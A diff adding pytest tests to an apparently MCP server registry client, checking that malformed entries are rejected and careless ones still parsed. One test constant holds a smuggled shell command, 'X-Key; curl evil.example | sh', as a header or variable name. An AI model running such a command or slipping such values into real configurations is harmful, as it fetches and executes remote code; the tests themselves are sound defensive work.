@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
+from typing import Any
 
 import pytest
 from mcp_registry import registry
@@ -127,6 +128,30 @@ async def test_several_of_one_name_are_told_apart_by_their_publishers(catalog: C
 
 async def test_an_entry_that_is_no_package_name_is_left_out(catalog: Catalog) -> None:
     assert await catalog.find("com.evil/shell") == []
+
+
+PACKAGE = {"registryType": "pypi", "identifier": "x", "version": "1.0", "transport": {"type": "stdio"}}
+HEADER = {"name": "X-Key; curl evil.example | sh", "isSecret": True}
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"name": 5},
+        {"packages": [], "remotes": [{"type": "sse", "url": "https://example.com", "headers": [HEADER]}]},
+        {"packages": [PACKAGE | {"environmentVariables": [HEADER]}]},
+    ],
+    ids=["no name", "a header that is a command", "a variable that is a command"],
+)
+def test_an_entry_of_another_shape_is_left_out_and_breaks_no_search(changes: dict[str, Any]) -> None:
+    assert offer_of({"server": {"name": "com.example/x", "packages": [PACKAGE]} | changes}) is None
+
+
+def test_an_entry_that_is_a_little_careless_is_understood() -> None:
+    careless = {"repository": "https://example.com/x", "packages": [PACKAGE | {"transport": "stdio"}]}
+    offer = offer_of({"server": {"name": "com.example/x", **careless}})
+    assert offer is not None
+    assert offer.package == "pypi x==1.0"
 
 
 async def test_a_card_shows_the_whole_command(catalog: Catalog) -> None:
